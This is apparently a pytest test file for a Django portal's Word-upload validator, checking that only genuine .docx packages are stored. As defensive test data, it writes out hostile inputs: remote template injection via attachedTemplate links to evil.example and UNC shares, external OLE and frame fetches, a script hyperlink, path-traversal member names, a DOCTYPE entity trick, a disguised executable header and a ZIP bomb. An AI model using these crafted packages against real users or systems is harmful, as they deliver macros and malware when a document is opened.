"""A Word upload is accepted for its structure as a whole, not for holding word/document.xml.

An outside probe found that any ZIP holding word/document.xml was stored as a .docx, whatever
else it held. A .docx must be a WordprocessingML package: [Content_Types].xml declaring
word/document.xml as a Word (not macro-enabled) main document; only the parts a Word
document has, under safe relative names; no macros, ActiveX controls, OLE objects or
programs; no template, object or frame fetched from elsewhere when it opens; no encrypted
member; and a bounded number of members and unpacked size, judged before anything is
unpacked. Anything else is refused with a message, and nothing is stored.
"""

import io
import struct
import warnings
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from committees import documents
from committees.models import Document, DocumentKind
from portal_kit import uploads
from tests.committees.factories import PaperFactory
from tests.security.payloads import (
    WORD_MAIN,
    content_types,
    relationships,
    word_document,
)

pytestmark = pytest.mark.django_db

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TEMPLATE = "attachedTemplate"
SETTINGS_RELATIONSHIPS = "word/_rels/settings.xml.rels"


def files_in(root) -> list[str]:
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def store(content: bytes, name: str = "policy.docx") -> Document:
    return documents.store_document(
        uploaded_file=SimpleUploadedFile(name, content, content_type=DOCX),
        paper=PaperFactory(),
        kind=DocumentKind.APPENDIX,
        title="Whistleblowing policy",
    )


def assert_refused(media, content: bytes, message: str):
    before = Document.objects.count()
    with pytest.raises(ValidationError) as caught:
        store(content)
    assert caught.value.message_dict == {"file": [message]}
    assert Document.objects.count() == before
    assert files_in(media) == []


def _zip(members: dict, *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of exactly these members, names kept as given (duplicates too)."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", compression) as archive:
        warnings.simplefilter("ignore")  # "Duplicate name": on purpose
        for name, content in members.items() if isinstance(members, dict) else members:
            archive.writestr(zipfile.ZipInfo(name), content)
    return buffer.getvalue()


def _word_parts(**changes) -> list[tuple[str, bytes]]:
    """The members of word_document(), as (name, bytes) pairs, after `changes`."""
    with zipfile.ZipFile(io.BytesIO(word_document(**changes))) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _template_from(target: str, *, mode: str = ' TargetMode="External"') -> dict:
    rels = relationships(("rId1", TEMPLATE, target)).replace(
        f'Target="{target}"', f'Target="{target}"{mode}'
    )
    return {"word/settings.xml": '<w:settings xmlns:w="urn:w"/>', SETTINGS_RELATIONSHIPS: rels}


# --- Accepted ------------------------------------------------------------------------------------


def test_a_word_document_as_word_writes_it_is_accepted(media):
    document = store(word_document())

    document.refresh_from_db()
    assert document.mime_type == DOCX
    assert document.text.startswith("Whistleblowing policy\nRaise a concern & follow it up")
    assert files_in(media) == [document.file.name]


def test_a_word_document_with_folder_entries_and_no_compression_is_accepted(media):
    parts = [("word/", b""), ("word/media/", b""), *_word_parts()]
    content = _zip(parts, compression=zipfile.ZIP_STORED)

    assert store(content).mime_type == DOCX


def test_part_names_are_compared_without_their_case_as_word_does(media):
    parts = [(name.replace("word/", "Word/", 1), data) for name, data in _word_parts()]

    assert store(_zip(parts)).text.startswith("Whistleblowing policy")


# --- Not a Word document -----------------------------------------------------------------------

NOT_WORD = {
    # The probe: a ZIP with word/document.xml and nothing that makes it a Word document.
    "only word/document.xml": _zip({"word/document.xml": "<w:document/>"}),
    "no [Content_Types].xml": word_document(without={"[Content_Types].xml"}),
    "content types declaring nothing": word_document(parts={"[Content_Types].xml": "<Types/>"}),
    "content types declaring another main part": word_document(
        parts={
            "[Content_Types].xml": content_types().replace(
                'PartName="/word/document.xml"', 'PartName="/word/other.xml"'
            )
        }
    ),
    "a Word template, not a document": word_document(
        parts={
            "[Content_Types].xml": content_types(main=WORD_MAIN.replace(".document.", ".template."))
        }
    ),
    "content types declaring word/document.xml but it is missing": word_document(
        without={"word/document.xml"}
    ),
    "a workbook part beside the document": word_document(parts={"xl/workbook.xml": "<workbook/>"}),
    "a part at the top level": word_document(parts={"readme.txt": "Open me"}),
    "a folder a Word document does not have": word_document(parts={"payload/readme.txt": "x"}),
}


@pytest.mark.parametrize("kind", list(NOT_WORD))
def test_a_zip_that_is_not_a_word_package_is_refused(media, kind):
    assert_refused(media, NOT_WORD[kind], documents.WRONG_TYPE)


# --- Macros, controls, programs, and what a document fetches from elsewhere -------------------

VBA = "application/vnd.ms-office.vbaProject"
ACTIVE_WORD = {
    "macro-enabled main document (a .docm renamed)": word_document(
        parts={
            "[Content_Types].xml": content_types(
                main=WORD_MAIN.replace("document.main", "document.macroEnabled.main")
            )
        }
    ),
    "vbaProject.bin": word_document(
        parts={
            "[Content_Types].xml": content_types(("/word/vbaProject.bin", VBA)),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
        }
    ),
    "a macro project under another name": word_document(
        parts={
            "[Content_Types].xml": content_types(("/word/media/image2.png", VBA)),
            "word/media/image2.png": b"\xd0\xcf\x11\xe0",
        }
    ),
    "vbaData.xml": word_document(parts={"word/vbaData.xml": "<wne:vbaSuppData/>"}),
    "an ActiveX control": word_document(parts={"word/activeX/activeX1.xml": "<ax:ocx/>"}),
    "an OLE object": word_document(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "a binary part anywhere": word_document(parts={"customXml/item2.bin": b"\x00"}),
    "a macro-enabled workbook": word_document(
        parts={"word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm": b"PK"}
    ),
    **{
        f"a program ({name})": word_document(parts={name: b"MZ\x90\x00"})
        for name in (
            "word/media/image2.exe",
            "word/payload.js",
            "docProps/run.vbs",
            "word/embeddings/setup.bat",
            "word/x.cmd",
            "customXml/x.ps1",
            "word/media/x.dll",
            "word/x.scr",
            "word/x.jar",
            "word/x.hta",
            "word/x.msi",
            "word/media/IMAGE2.EXE",
            "word/media/image2.exe.",
        )
    },
    # Remote template injection: Word fetches the template, and its macros, when it opens.
    "a template on a web server": word_document(
        parts=_template_from("https://evil.example/report.dotm")
    ),
    "a template on a network share": word_document(
        parts=_template_from("file://evil.example/share/report.dotm")
    ),
    "a template on a UNC path": word_document(
        parts=_template_from("\\\\evil.example\\share\\report.dotm")
    ),
    "a template, external spelt in lower case": word_document(
        parts=_template_from("https://evil.example/t.dotm", mode=' TargetMode="external"')
    ),
    "an internal template with an address": word_document(
        parts=_template_from("https://evil.example/t.dotm", mode="")
    ),
    "an internal target climbing out of the package": word_document(
        parts=_template_from("../../../Templates/report.dotm", mode="")
    ),
    "a linked OLE object on a network share": word_document(
        parts={
            "word/_rels/document.xml.rels": relationships(
                ("rId1", "styles", "styles.xml"),
                ("rId9", "oleObject", "file:///\\\\evil.example\\share\\budget.xlsx"),
                external={"rId9"},
            )
        }
    ),
    "a frame fetched from a web server": word_document(
        parts={
            "word/webSettings.xml": '<w:webSettings xmlns:w="urn:w"/>',
            "word/_rels/webSettings.xml.rels": relationships(
                ("rId1", "frame", "https://evil.example/frame.html"), external={"rId1"}
            ),
        }
    ),
    "an external relationship with a prefixed namespace": word_document(
        parts={
            SETTINGS_RELATIONSHIPS: (
                '<r:Relationships xmlns:r="http://schemas.openxmlformats.org/package/2006/'
                'relationships"><r:Relationship Id="rId1" Type="http://schemas.openxmlformats'
                '.org/officeDocument/2006/relationships/attachedTemplate" Target="https://'
                'evil.example/t.dotm" TargetMode="External"/></r:Relationships>'
            )
        }
    ),
    "relationships written in UTF-16": word_document(
        parts={
            SETTINGS_RELATIONSHIPS: _template_from("https://evil.example/t.dotm")[
                SETTINGS_RELATIONSHIPS
            ]
            .replace('encoding="UTF-8"', 'encoding="UTF-16"')
            .encode("utf-16")
        }
    ),
    "a link running a script": word_document(
        parts={
            "word/_rels/document.xml.rels": relationships(
                ("rId4", "hyperlink", "java&#9;script:alert(1)"), external={"rId4"}
            )
        }
    ),
}


@pytest.mark.parametrize("kind", list(ACTIVE_WORD))
def test_a_word_document_with_macros_programs_or_outside_parts_is_refused(media, kind):
    assert_refused(media, ACTIVE_WORD[kind], documents.ACTIVE_WORD_CONTENT)


# --- Names, encodings and ZIP tricks ----------------------------------------------------------


def _renamed_in_local_header(content: bytes, old: bytes, new: bytes) -> bytes:
    """The central directory still lists `old`; the member's own header says `new`."""
    assert len(old) == len(new)
    at = content.index(old)
    assert at < content.index(b"PK\x01\x02")  # in the member's header, not the directory
    return content[:at] + new + content[at + len(old) :]


def _encrypted_flag(content: bytes) -> bytes:
    """Every member marked as encrypted, in its own header and in the central directory."""
    data = bytearray(content)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at != -1:
            (flags,) = struct.unpack_from("<H", data, at + offset)
            struct.pack_into("<H", data, at + offset, flags | 0x1)
            at = data.find(signature, at + 4)
    return bytes(data)


UNSAFE_NAMES = [
    "../evil.xml",
    "/word/evil.xml",
    "word\\..\\..\\evil.xml",
    "C:/Windows/evil.xml",
    "C:evil.xml",
    "word/../../evil.xml",
    "word/./styles2.xml",
    "word//styles2.xml",
    "word/styles2.xml:hidden",
    "word/sty\x01les2.xml",
    "word/media/image2\u202egnp.xml",
]
DAMAGED_WORD = {
    **{
        f"a member named {name!r}": _zip([*_word_parts(), (name, b"<x/>")]) for name in UNSAFE_NAMES
    },
    "two members with one name": _zip([*_word_parts(), ("word/document.xml", b"<w:document/>")]),
    "two members whose names differ only in case": _zip(
        [*_word_parts(), ("WORD/Document.xml", b"<w:document/>")]
    ),
    "a member whose own header names another file": _renamed_in_local_header(
        word_document(), b"word/media/image1.png", b"word/media/image1.exe"
    ),
    "relationships with a document type declaration": word_document(
        parts={
            SETTINGS_RELATIONSHIPS: relationships(("rId1", TEMPLATE, "&t;")).replace(
                "?>\n", '?>\n<!DOCTYPE r [<!ENTITY t "https://evil.example/t.dotm">]>'
            )
        }
    ),
    "content types that are not XML": word_document(parts={"[Content_Types].xml": "<Types"}),
    "a compression Word cannot read": word_document(compression=zipfile.ZIP_BZIP2),
}


@pytest.mark.parametrize("kind", list(DAMAGED_WORD))
def test_a_word_package_with_unsafe_names_or_zip_tricks_is_refused(media, kind):
    assert_refused(media, DAMAGED_WORD[kind], documents.DAMAGED)


def test_a_word_document_with_an_encrypted_member_is_refused(media):
    assert_refused(media, _encrypted_flag(word_document()), documents.PASSWORD_PROTECTED)


def test_a_member_that_unpacks_far_beyond_its_packed_size_is_refused_before_it_is_read(
    media, monkeypatch
):
    """A 40 MB run of zeros packs into about 40 KB: well inside the total allowed, but no part
    of a real document shrinks so far."""
    bomb = word_document(parts={"word/media/image2.png": b"\x00" * (40 * 1024 * 1024)})
    assert len(bomb) < 100 * 1024
    opened = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *a, **k: opened.append(a) or 1 / 0)

    assert_refused(media, bomb, documents.TOO_BIG_UNPACKED)
    assert opened == []


def test_a_word_document_with_too_many_members_is_refused(media, monkeypatch):
    monkeypatch.setattr(uploads, "MAX_DOCX_ENTRIES", 30)
    parts = {f"customXml/item{n}.xml": "<x/>" for n in range(2, 40)}

    assert_refused(media, word_document(parts=parts), documents.TOO_BIG_UNPACKED)


def test_members_declaring_more_than_the_total_unpacked_size_are_refused(media, monkeypatch):
    monkeypatch.setattr(uploads, "MAX_DOCX_UNPACKED_BYTES", 1024 * 1024)
    parts = {f"word/media/image{n}.png": bytes(range(256)) * 1024 for n in range(2, 8)}

    assert_refused(media, word_document(parts=parts), documents.TOO_BIG_UNPACKED)
